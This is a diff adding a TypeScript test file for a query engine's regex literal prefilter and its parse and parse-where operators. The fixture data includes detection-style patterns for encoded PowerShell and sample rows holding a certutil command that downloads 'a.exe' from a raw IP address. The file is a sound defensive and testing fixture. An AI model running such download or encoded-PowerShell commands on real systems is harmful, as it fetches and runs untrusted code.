@@ -1,0 +1,47 @@
+// The literal prefilter of regular expressions (functions/regex.ts requiredLiteral, and parse's longest
+// literal): a text without the required literal cannot match, so extract/matches regex/parse skip the
+// regex engine there. Checked two ways: the literals found for known patterns (none where one is not
+// certain), and extract / matches regex / parse results equal to re2js run on every text without the filter.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { compileRegex, regexExtract, regexTest, requiredLiteral } from '../../src/engine/functions/regex.js';
+import { runQuery, MemorySource } from '../../src/engine/index.js';
+import { readCell, tableFromRows } from '../../src/engine/storage/builders.js';
+
+test('required literals: the longest certain run, none under alternation, inline flags or doubt', () => {
+  const cases: [string, string | undefined][] = [
+    ['-EncodedCommand\\s+([A-Za-z0-9+/=]+)', '-EncodedCommand'], ['https?://([^/ ]+)/', 'http'], ['abc|def', undefined],
+    ['(?i)abc', undefined], ['ab+cd', 'ab'], ['x(abc)yz', 'yz'], ['a\\.b\\.c', 'a.b.c'], ['abc{0,2}de', 'ab'], ['abc{2}de', 'abc'],
+    ['[abc]xyz[d]', 'xyz'], ['[]ab]cd', 'cd'], ['foo.*bar', 'foo'], ['ab*', undefined], ['a\\sb', undefined], ['a\\p{L}bc', 'bc'],
+    ['(a|b)cde', 'cde'], ['abc{,2}', undefined], ['x\\Qa|b\\E', undefined], ['ab?', undefined],
+  ];
+  for (const [p, want] of cases) assert.equal(requiredLiteral(p), want, p);
+});
+
+test('extract and matches regex with the prefilter equal re2js on every text', () => {
+  const texts = ['', 'powershell -EncodedCommand QUJD', 'x -encodedcommand abc', 'http://a.b/c', 'https://x.y/', 'ftp://q/', 'abcde', 'abde', 'abbbcd', 'a.b.c', 'aXbc', 'xyz', 'cde'];
+  const patterns = ['-EncodedCommand\\s+([A-Za-z0-9+/=]+)', 'https?://([^/ ]+)/', 'ab+cd', 'a\\.b\\.c', 'abc{0,2}de', '[abc]xyz', 'a\\p{L}bc', '(a|b)cde', '(?i)-encodedcommand (\\w+)'];
+  for (const p of patterns) {
+    for (const t of texts) {
+      const m = compileRegex(p).matcher(t);
+      const want = m.find() ? m.group(p.includes('(') && !p.startsWith('(a|b)') ? 1 : 0) : null;
+      assert.equal(regexExtract(p, p.includes('(') && !p.startsWith('(a|b)') ? 1 : 0, t), want, `${p} on ${t}`);
+      assert.equal(regexTest(p, t), compileRegex(p).test(t), `${p} on ${t}`);
+    }
+  }
+});
+
+test('parse with its literal prefilter keeps and fills exactly the rows that match', () => {
+  const schema = { name: 'T', columns: [{ name: 'C', type: 'string' as const }] };
+  const rows = ['certutil -split -f http://1.2.3.4/a.exe C:\\x', 'certutil -urlcache', '', '-split -f http://h/p d', 'x -split -f http://h/p', '-SPLIT -F HTTP://h/p d'].map((C) => ({ C }));
+  const source = new MemorySource(new Map([['T', { schema, extents: [tableFromRows(schema.columns, rows)] }]]));
+  const run = (q: string) => {
+    const r = runQuery(q, { source });
+    assert.ok(r.ok);
+    const t = r.tables[0]!.table;
+    return Array.from({ length: t.length }, (_, i) => t.columns.map((c) => String(readCell(c.column, i))).join('|'));
+  };
+  assert.deepEqual(run('T | parse C with * "-split -f http://" Host "/" Payload " " Dest | project Host, Payload, Dest'), ['1.2.3.4|a.exe|C:\\x', '||', '||', 'h|p|d', '||', '||']);
+  assert.deepEqual(run('T | parse-where C with * "-split -f http://" Host "/" Payload " " Dest | project Host'), ['1.2.3.4', 'h']);
+  assert.deepEqual(run('T | parse-where flags=i C with * "-split -f http://" Host "/" Payload " " Dest | project Host'), ['1.2.3.4', 'h', 'h']);
+});
